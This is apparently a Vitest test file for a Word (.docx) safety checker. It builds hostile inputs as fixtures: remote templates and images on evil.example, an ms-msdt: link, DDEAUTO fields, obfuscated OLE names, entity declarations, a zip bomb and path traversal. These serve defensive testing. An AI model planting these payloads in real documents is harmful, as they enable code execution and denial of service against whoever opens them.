import { deflateRawSync } from "node:zlib";
import { describe, expect, it, test } from "vitest";
import {
  checked,
  codes,
  instruction,
  run,
  text,
  withBody,
  withParts,
  withRelation,
} from "../../../tests/support/word.ts";
import { checkDocx } from "./check-docx.ts";
import { archiveOf } from "./docx.ts";
import { docxMarks, docxParagraphs } from "./docx-text.ts";

describe("a file that does something", () => {
  const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  const cases: readonly (readonly [string, Buffer, string])[] = [
    ["macros", withParts({ "word/vbaProject.bin": "x" }), "word-program"],
    [
      "macros by type alone",
      withParts({
        "[Content_Types].xml": (was) =>
          was.replace(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
          ),
      }),
      "word-program",
    ],
    ["an ActiveX control", withParts({ "word/activeX/activeX1.xml": "<a/>" }), "word-program"],
    ["a workbook inside", withParts({ "word/embeddings/a.xlsx": "PK" }), "word-embedded"],
    ["a drawing that is a program", withParts({ "word/media/a.wmf": "x" }), "word-part"],
    ["an SVG", withParts({ "word/media/a.svg": "<svg/>" }), "word-part"],
    [
      "a template from a server",
      withRelation(
        `Type="${OFFICE}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"`,
      ),
      "word-outside",
    ],
    [
      "a picture from a server",
      withRelation(
        `Type="${OFFICE}/image" Target="https://evil.example/p.png" TargetMode="External"`,
      ),
      "word-outside",
    ],
    [
      "a share that is not said to be outside",
      withRelation(`Type="${OFFICE}/image" Target="\\\\evil\\p.png"`),
      "word-outside",
    ],
    [
      "a link that is a program",
      withRelation(
        `Type="${OFFICE}/hyperlink" Target="ms-msdt:/id PCWDiagnostic" TargetMode="External"`,
      ),
      "word-outside",
    ],
    [
      "an object whose name is written in numbers",
      withRelation(`Type="${OFFICE}/ole&#79;bject" Target="a.xml"`),
      "word-embedded",
    ],
    ["a field that starts a program", withBody(instruction("DDEAUTO c:\\\\x")), "word-field"],
    ["the same in pieces", withBody(instruction(" D", "DE", "AUTO x")), "word-field"],
    ["a formula", withBody(instruction("= 2 + 2")), "word-field"],
    [
      "a field in a field",
      withBody(
        `<w:p>${run('<w:fldChar w:fldCharType="begin"/>')}${run("<w:instrText>PAGE </w:instrText>")}${instruction("INCLUDETEXT x").slice(5, -6)}${run('<w:fldChar w:fldCharType="end"/>')}</w:p>`,
      ),
      "word-field",
    ],
    [
      "a field in one mark",
      withBody('<w:p><w:fldSimple w:instr="INCLUDEPICTURE x"/></w:p>'),
      "word-field",
    ],
    ["a field of mail merge", withBody(instruction("MERGEFIELD Name")), "word-merge-field"],
    ["a document put in whole", withBody('<w:altChunk r:id="rId9"/>'), "word-embedded"],
    [
      "Word's names under another prefix",
      withBody(
        '<x:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:fldSimple x:instr="DDE a"/></x:p>',
      ),
      "word-none",
    ],
    [
      "definitions of its own",
      withParts({
        "word/document.xml": (was) =>
          was.replace("<w:document", '<!DOCTYPE d [<!ENTITY a "b">]><w:document'),
      }),
      "word-broken",
    ],
    [
      "an entity that is not known",
      withBody("<w:p><w:r><w:t>&a;</w:t></w:r></w:p>"),
      "word-broken",
    ],
    ["an element that is not closed", withBody("<w:p><w:r></w:p>"), "word-broken"],
    [
      "another alphabet of bytes",
      withParts({ "word/settings.xml": Buffer.from("<a/>", "utf16le").toString("latin1") }),
      "word-broken",
    ],
  ];
  it.each(cases)("%s", (_, bytes, code) => {
    expect(codes(checkDocx(bytes))).toEqual([code]);
  });

  test("what an office needs is not in the way", () => {
    const fine = withParts({
      "word/document.xml": (was) =>
        was.replace("<w:sectPr>", `${instruction("PAGE \\* MERGEFORMAT")}<w:sectPr>`),
      "word/_rels/document.xml.rels": (was) =>
        was.replace(
          "</Relationships>",
          `<Relationship Id="rId9" Type="${OFFICE}/hyperlink" Target="https://example.org/" TargetMode="External"/></Relationships>`,
        ),
      "word/header1.xml":
        '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:r><w:t>{head}</w:t></w:r></w:p></w:hdr>',
    });
    expect(codes(checkDocx(fine))).toEqual([]);
    expect(docxMarks(docxParagraphs(checked(fine))).map(({ area }) => area)).toEqual([
      "body",
      "header",
    ]);
  });
});

describe("a file that is none", () => {
  const whole = text("{a}");
  test("nothing, text, half a file, the old format, another archive", () => {
    for (const bytes of [Buffer.alloc(0), Buffer.from("hello"), whole.subarray(0, 400)]) {
      expect(codes(checkDocx(bytes))).toEqual(["word-broken"]);
    }
    expect(codes(checkDocx(Buffer.from("d0cf11e0a1b11ae1", "hex")))).toEqual(["word-old"]);
    expect(codes(checkDocx(archiveOf([{ name: "a.xml", bytes: "<a/>" }])))).toEqual(["word-none"]);
    expect(codes(checkDocx(Buffer.alloc(6 * 1024 * 1024)))).toEqual(["word-too-big"]);
  });

  test("one byte that is another", () => {
    const at = whole.indexOf("word/document.xml") + 40;
    const other = Buffer.from(whole);
    other[at] = (other[at] ?? 0) ^ 1;
    expect(codes(checkDocx(other))).toEqual(["word-broken"]);
  });

  test("a part that unpacks to more than the directory says costs nothing", () => {
    const bomb = deflateRawSync(Buffer.alloc(50 * 1024 * 1024));
    const bytes = withParts({ "word/media/a.png": "0123456789" });
    // The directory keeps its ten bytes; what lies there would be fifty megabytes.
    const name = Buffer.from("word/media/a.png");
    const head = bytes.indexOf(name) - 30;
    const packed = bytes.readUInt32LE(head + 18);
    const data = head + 30 + name.length + bytes.readUInt16LE(head + 28);
    const grown = Buffer.concat([bytes.subarray(0, data), bomb, bytes.subarray(data + packed)]);
    const moved = bomb.length - packed;
    const end = grown.lastIndexOf(Buffer.from("PK\u0005\u0006", "latin1"));
    const directory = grown.readUInt32LE(end + 16) + moved;
    grown.writeUInt32LE(directory, end + 16);
    const entry = grown.indexOf(name, directory) - 46;
    grown.writeUInt32LE(bomb.length, entry + 20);
    grown.writeUInt16LE(8, entry + 10);
    expect(codes(checkDocx(grown))).toEqual(["word-broken"]);
  });

  test("names that lead out, or twice to the same", () => {
    expect(codes(checkDocx(withParts({ "../a.xml": "<a/>" })))).toEqual(["word-broken"]);
    expect(codes(checkDocx(withParts({ "word/Document.xml": "<a/>" })))).toEqual(["word-broken"]);
  });
});
